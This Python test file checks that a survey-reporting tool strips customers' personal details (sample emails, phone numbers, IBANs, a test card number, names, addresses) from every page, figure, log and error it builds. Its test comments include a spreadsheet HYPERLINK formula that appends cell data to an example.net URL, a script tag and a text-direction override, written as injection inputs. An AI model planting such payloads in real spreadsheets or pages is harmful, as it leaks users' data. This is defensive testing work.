"""What customers wrote of themselves is in no page, table, download, alt text, manifest or log."""

from __future__ import annotations

import base64
import html
import re
import unicodedata
from typing import TYPE_CHECKING

import pytest
from small_project import CODEBOOK, RESPONSES, Command, write_notebook, write_project

if TYPE_CHECKING:
    from pathlib import Path

# check digits: published samples of the ISO 13616 registry, card networks and Agenzia delle Entrate
SECRETS = {
    "Scrivetemi a anna.bellandi@example.org": "anna.bellandi",
    "Write to me: carla (at) example dot net": "carla (at)",
    "Mail: dar\u200bio@exam\u200bple.com": "dario@",
    "Chiamatemi al 333 123 45 67": "3331234567",
    "Call +44 20 7946 0958": "2079460958",
    "Il fisso è ０６ 69881234": "0669881234",
    "Codice fiscale RSSMRA85T10A562S": "RSSMRA85T10A562S",
    "Rimborso su IT60 X054 2811 1010 0000 0123 456": "IT60X0542811101000000123456",
    "Rimborso su DE8937\u200b0400440532013000": "DE89370400440532013000",
    "La carta è 4111 1111 1111 1111": "4111111111111111",
    "Fattura a P.IVA 00743110157": "00743110157",
    "Sono nata a Forlì il 03/04/1975": "03/04/1975",
    "Abito in via Garibaldi 17, Cuneo": "Garibaldi",
    "I live at 221b Baker Street": "Baker",
    "La mia auto è AB123CD": "AB123CD",
    "Salve, mi chiamo Ermenegilda Lusardi": "Ermenegilda",
    "My name is Bartholomew": "Bartholomew",
    "La sig.ra Pellizza lo sa": "Pellizza",
    "Foto su https://example.org/u/serlupi": "serlupi",
    "Sono @rovatti_1980": "rovatti",
    "L'ordine MX-778812 non arriva": "778812",
    '=HYPERLINK("https://example.net/?q="&A1,"morganti@example.net")': "morganti",
    "<script>alert('gorlani@example.net')</script>": "gorlani",
    "\u202eSono\u202c corvetti&#64;example.net": "corvetti",
}
COMMENT = """
[tables.responses.columns.comment]
role = "comment"
"""
SHOWN = """
import matplotlib.pyplot as plt
import cxreport as cx
from cxreport.inputs.source import run
rows = run(cx.open_survey(source, period=period).responses.select("comment")).dropna()
everything = " | ".join(sorted({*rows["comment"]}))
print(everything)
"""
FIGURE = """
drawn, axes = plt.subplots()
axes.set_title(everything[:40])
titles = {"en": "Comments", "it": "Commenti"}
cx.show.figure(drawn, rows, title=titles, alt={"en": everything, "it": everything})
"""
TABLE = 'cx.show.plain_table(rows, title={"en": everything, "it": everything})'
FAILS = "raise ValueError(everything)"
RAW = """
import pandas as pd
rows = pd.read_csv("data/mini/responses.csv")[["comment"]]
everything = next(text for text in rows["comment"] if "Erme" "negilda" in text)
import cxreport as cx
"""


def write(root: Path, *cells: str, name: str = "mini") -> None:
    """Write the small project with comments that name persons, ten of each."""
    write_project(root, names=(name,))
    (root / "data/mini/codebook.toml").write_text(
        CODEBOOK.replace("observed_until", 'id_patterns = { order = "MX-[0-9]+" }\nobserved_until')
        + COMMENT,
        "utf-8",
    )
    lines = RESPONSES.splitlines()
    comments = [*SECRETS] * (len(lines) // len(SECRETS) + 1)
    quoted = [comment.replace('"', '""') for comment in comments]
    rows = [f'{line},"{text}"' for line, text in zip(lines[1:], quoted, strict=False)]
    (root / "data/mini/responses.csv").write_text(
        "\n".join([lines[0] + ",comment", *rows]), "utf-8"
    )
    write_notebook(root, *cells, name=name)


def read_out(root: Path) -> str:
    """Return all that stands in any file but the data, as a person would read it."""
    texts = []
    for path in sorted(root.rglob("*")):
        if path.is_file() and root / "data" not in path.parents:
            text = path.read_bytes().decode("utf-8", "replace")
            for data in re.findall(r"base64,([A-Za-z0-9+/=]+)", text):
                text += base64.b64decode(data).decode("utf-8", "replace")
            texts.append(html.unescape(html.unescape(text)))
    plain = unicodedata.normalize("NFKC", "\n".join(texts))
    return "".join(sign for sign in plain if unicodedata.category(sign) != "Cf")


def named(root: Path) -> list[str]:
    """Return the secrets that are told, with or without the blanks in them."""
    text = read_out(root)
    tight = re.sub(r"\s", "", text)
    return [secret for secret in SECRETS.values() if secret in text or secret in tight]


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("named")
    write(root, SHOWN, FIGURE, TABLE)
    code, text = Command(root, "build").end()
    assert code == 0, text
    return root


def test_the_page_shows_all_comments(built: Path) -> None:
    text = (built / "reports/mini/2026-10/it.html").read_text("utf-8")
    marks = {"email", "phone", "tax code", "IBAN", "card", "VAT number", "date of birth", "address",
             "plate", "name", "link", "handle", "order"}  # fmt: skip
    assert {mark for mark in marks if f"[{mark}]" in text} == marks


def test_no_secret_is_in_anything_that_a_build_leaves(built: Path) -> None:
    assert named(built) == []


def test_the_check_names_no_person_either(built: Path) -> None:
    code, text = Command(built, "check", "mini").end()
    assert code == 0
    assert "x [email] taken out of" in text
    assert named(built) == []  # what it said is a file of the project, too


def test_a_run_that_fails_tells_no_secret(tmp_path: Path) -> None:
    write(tmp_path, SHOWN, FAILS)
    code, _ = Command(tmp_path, "build").end()
    assert code != 0
    assert "ValueError" in read_out(tmp_path)
    assert named(tmp_path) == []


def test_the_search_finds_what_is_told(tmp_path: Path) -> None:
    write(tmp_path, RAW, TABLE.replace("rows", "rows.assign(comment=everything).head(1)"))
    code, text = Command(tmp_path, "build").end()
    assert code == 0, text
    assert named(tmp_path) == ["Ermenegilda"]
